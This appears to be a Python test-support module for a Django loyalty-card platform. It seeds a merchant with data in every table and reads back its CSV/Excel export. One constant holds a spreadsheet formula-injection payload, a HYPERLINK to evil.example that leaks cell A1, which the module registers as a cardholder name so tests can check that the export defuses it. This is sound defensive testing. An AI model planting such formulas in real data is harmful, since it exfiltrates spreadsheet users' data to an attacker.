"""A merchant with at least one row in every table the export holds, and how to read an export's
ZIP: its CSV files with Python's csv module, its workbook with openpyxl."""
import csv
import datetime
import io
import json
import zipfile

from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl import load_workbook
from PIL import Image

from loyalty.actors import Actor
from loyalty.models import (
    Account,
    ApiKey,
    AuditLog,
    BonusAction,
    Booking,
    Card,
    Cardholder,
    Consent,
    ConsentWording,
    CustomField,
    ExpiryReminder,
    LedgerEntry,
    Lot,
    Program,
    Reward,
    ShopSettings,
    Terminal,
)
from loyalty.pos.services import cashier_group
from loyalty.roles import BUILT_IN_ROLES, MANAGER
from loyalty.services import bookings
from loyalty.services.api_keys import api_key_create, api_key_revoke
from loyalty.services.cardholders import card_register, consent_record
from loyalty.services.exports import WORKBOOK
from loyalty.services.programs import bonus_action_create, program_create, reward_create
from loyalty.services.shop import shop_logo_replace, shop_settings_update
from loyalty.services.staff import role_create, staff_invite
from loyalty.services.terminals import terminal_create
from tenants.accounts.models import AuthenticatorDevice, User
from tests.support.baseline import PASSWORD, owner_email
from tests.support.factories import CardFactory

# What a spreadsheet would run if the export let it: a cardholder's name chosen to attack the owner.
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
PHONE = "+49 171 1234567"
# The manager's authenticator key: a secret that must not be exported.
TOTP_KEY = "5ec7e75ec7e75ec7e75ec7e75ec7e75ec7e75ec7"


def _png() -> SimpleUploadedFile:
    image = io.BytesIO()
    Image.new("RGB", (8, 8), "#7a4a21").save(image, format="PNG")
    return SimpleUploadedFile("logo.png", image.getvalue(), content_type="image/png")


def shop_with_everything(schema_name: str, name: str) -> dict:
    """The merchant's programs of every kind with rewards and a bonus action, own fields, two
    cardholders with consents, bookings of many kinds (a reversal that leaves an open claim, an
    adjustment, a voucher, a top-up and a payment), lots that expire, an expiry reminder,
    terminals, staff in built-in and own roles, API keys, settings with a logo, and the audit trail
    all of that wrote. `name` goes into every name, to be told apart from other merchants'."""
    with schema_context(schema_name):
        owner = User.objects.get(email=owner_email(schema_name))
        actor = Actor(user=owner)
        points = program_create(kind="points", name=f"{name} Bonuspunkte", actor=actor, expiry="rolling_months",
                                expiry_months=12, points_per_euro="1.5")
        prepaid = program_create(kind="prepaid", name=f"{name} Guthaben", actor=actor, max_balance_cents=50_000)
        voucher = program_create(kind="voucher", name=f"{name} Gutschein", actor=actor, voucher_value_cents=2_500,
                                 voucher_presets=[1_000, 2_500], voucher_purpose="single")
        stamps = program_create(kind="stamps", name=f"{name} Kaffeekarte", actor=actor, stamps_per_reward=5,
                                stamp_reward="Ein Kaffee")
        reward = reward_create(program=points, name=f"{name} Croissant", points=10, actor=actor)
        bonus_action_create(program=points, kind="sign_up", name=f"{name} Willkommen", points=5, actor=actor)
        CustomField.objects.create(key="lieblingsbrot", label="Lieblingsbrot", kind="text", position=1)
        CustomField.objects.create(key="kunde_seit", label="Kunde seit", kind="date", position=2)
        CustomField.objects.create(key="kinder", label="Kinder", kind="number", position=3)
        CustomField.objects.create(key="newsletter_papier", label="Post erwünscht", kind="checkbox", position=4)
        terminal, terminal_token = terminal_create(name=f"{name} Theke", actor=actor)
        till = Actor(terminal=terminal, user=owner)
        card = card_register(
            card_number=CardFactory(status=Card.Status.UNISSUED).number, actor=till, first_name=f"{name}-Anna",
            last_name="Müller", email=f"anna@{schema_name}.example", phone=PHONE,
            birth_date=datetime.date(1980, 5, 17), postcode="10115", custom_data={"lieblingsbrot": "Dinkel", "kunde_seit": "2019-03-01", "kinder": "2",
                                           "newsletter_papier": True})
        Card.objects.filter(pk=card.pk).update(activation_code="GEHEIM4711XY")
        attacker = card_register(card_number=CardFactory(status=Card.Status.UNISSUED).number, actor=till,
                                 first_name=ATTACK, last_name=f"{name}-Angreifer")
        consent_record(cardholder=card.cardholder, purpose="terms_and_privacy", granted=True, source="till",
                       actor=till, wording_version="2026-01")
        consent_record(cardholder=card.cardholder, purpose="newsletter", granted=True, source="till", actor=till)
        consent_record(cardholder=card.cardholder, purpose="newsletter", granted=False, source="back_office",
                       actor=actor)
        sale = bookings.booking_earn(card_number=card.number, program=points, purchase_amount_cents=2_000,
                                     idempotency_key="sale", actor=till, receipt_number=f"{name}-R-17")
        bookings.booking_redeem_reward(card_number=card.number, reward=reward.pk, idempotency_key="croissant",
                                       actor=till)
        bookings.booking_reverse(booking_id=sale.pk, idempotency_key="undo-sale", actor=actor, reason="Falscher Betrag")
        bookings.booking_top_up(card_number=card.number, program=prepaid, amount_cents=5_000, idempotency_key="top-up",
                                actor=till)
        bookings.booking_pay(card_number=card.number, program=prepaid, amount_cents=1_250, idempotency_key="pay",
                             actor=till)
        bookings.booking_adjust(card_number=card.number, program=prepaid, amount=-5, reason="Kulanz rückgängig",
                                idempotency_key="adjust", actor=actor)
        bookings.booking_voucher_issue(card_number=attacker.number, program=voucher, amount_cents=2_500,
                                       idempotency_key="voucher", actor=till)
        bookings.booking_stamp(card_number=card.number, program=stamps, idempotency_key="stamp", actor=till)
        account = Account.objects.get(card=card, program=points)
        ExpiryReminder.objects.create(account=account, expires_on=timezone.localdate() + datetime.timedelta(days=20),
                                      points=5)
        manager = staff_invite(email=f"manager@{schema_name}.example", full_name=f"{name} Manuela",
                               role=BUILT_IN_ROLES[MANAGER], actor=actor)
        AuthenticatorDevice.objects.create(user=manager, name="Telefon", confirmed=True, key=TOTP_KEY)
        cashier = User.objects.create_user(f"kasse@{schema_name}.example", PASSWORD, full_name=f"{name} Kai")
        cashier.groups.add(cashier_group())
        cashier.pos_pin = "argon2$pin-hash-that-must-stay-secret"
        cashier.save(update_fields=["pos_pin"])
        role = role_create(name=f"{name} Aushilfe", capabilities=["journal"], actor=actor)
        User.objects.create_user(f"aushilfe@{schema_name}.example", PASSWORD, full_name=f"{name} Aushilfe").groups.add(
            Group.objects.get(name=role.group_name))
        api_key, api_token = api_key_create(name=f"{name} Kasse", scope="book", actor=actor)
        old_key, _ = api_key_create(name=f"{name} Alte Kasse", scope="read", actor=actor)
        api_key_revoke(api_key=old_key, actor=actor)
        shop_settings_update(actor=actor, legal_name=f"{name} GmbH", contact_phone="+49 30 1234567",
                             plausibility_limit_cents=15_000)
        shop_logo_replace(upload=_png(), actor=actor)
        return {
            "owner": owner, "manager": manager, "cashier": cashier, "card": card, "attacker": attacker,
            "terminal_token": terminal_token, "api_token": api_token, "api_key": api_key,
            "programs": {"points": points, "prepaid": prepaid, "voucher": voucher, "stamps": stamps},
            "secrets": [owner.password, cashier.password, cashier.pos_pin, TOTP_KEY, terminal.token_hash,
                        terminal_token, api_key.key_hash, api_token, "GEHEIM4711XY"],
        }


def counts_in_database(schema_name: str) -> dict[str, int]:
    """COUNT(*) of each table the export holds."""
    with schema_context(schema_name):
        return {
            "programs": Program.objects.count(), "rewards": Reward.objects.count(),
            "bonus_actions": BonusAction.objects.count(), "custom_fields": CustomField.objects.count(),
            "cardholders": Cardholder.objects.count(), "consents": Consent.objects.count(),
            "consent_wordings": ConsentWording.objects.count(),
            "cards": Card.objects.count(), "accounts": Account.objects.count(),
            "open_claims": Account.objects.filter(claim__gt=0).count(), "lots": Lot.objects.count(),
            "bookings": Booking.objects.count(), "ledger_entries": LedgerEntry.objects.count(),
            "expiry_reminders": ExpiryReminder.objects.count(), "terminals": Terminal.objects.count(),
            "staff": User.objects.count(), "groups": Group.objects.count(), "api_keys": ApiKey.objects.count(),
            "settings": ShopSettings.objects.count(), "audit_log": AuditLog.objects.count(),
        }


class Export:
    """An export's ZIP, opened."""

    def __init__(self, content: bytes):
        self.content = content
        self.zip = zipfile.ZipFile(io.BytesIO(content))
        self.manifest = json.loads(self.zip.read("manifest.json"))
        self.workbook = load_workbook(io.BytesIO(self.zip.read(WORKBOOK)))

    def raw(self, name: str) -> bytes:
        return self.zip.read(name)

    def csv_rows(self, table: str) -> list[list[str]]:
        """The table's CSV file read as German Excel writes one: `;`, after the byte order mark."""
        with self.zip.open(f"{table}.csv") as member:
            return list(csv.reader(io.TextIOWrapper(member, encoding="utf-8-sig", newline=""), delimiter=";"))

    def csv_dicts(self, table: str) -> list[dict]:
        header, *rows = self.csv_rows(table)
        return [dict(zip(header, row, strict=True)) for row in rows]

    def sheet_rows(self, table: str) -> list[tuple]:
        rows = []
        for index, name in enumerate(self.manifest["sheets"][table]):
            sheet_rows = list(self.workbook[name].iter_rows(values_only=True))
            rows += sheet_rows if index == 0 else sheet_rows[1:]
        return rows

    def sheet_cells(self, table: str) -> list:
        return list(self.workbook[table].iter_rows())

    def every_text(self) -> str:
        """Everything in the ZIP as text, the workbook's XML files unpacked too."""
        parts = []
        for name in self.zip.namelist():
            data = self.zip.read(name)
            if name == WORKBOOK:
                inner = zipfile.ZipFile(io.BytesIO(data))
                parts += [inner.read(member).decode("utf-8", errors="replace") for member in inner.namelist()]
            else:
                parts.append(data.decode("utf-8", errors="replace"))
        return "\n".join(parts)
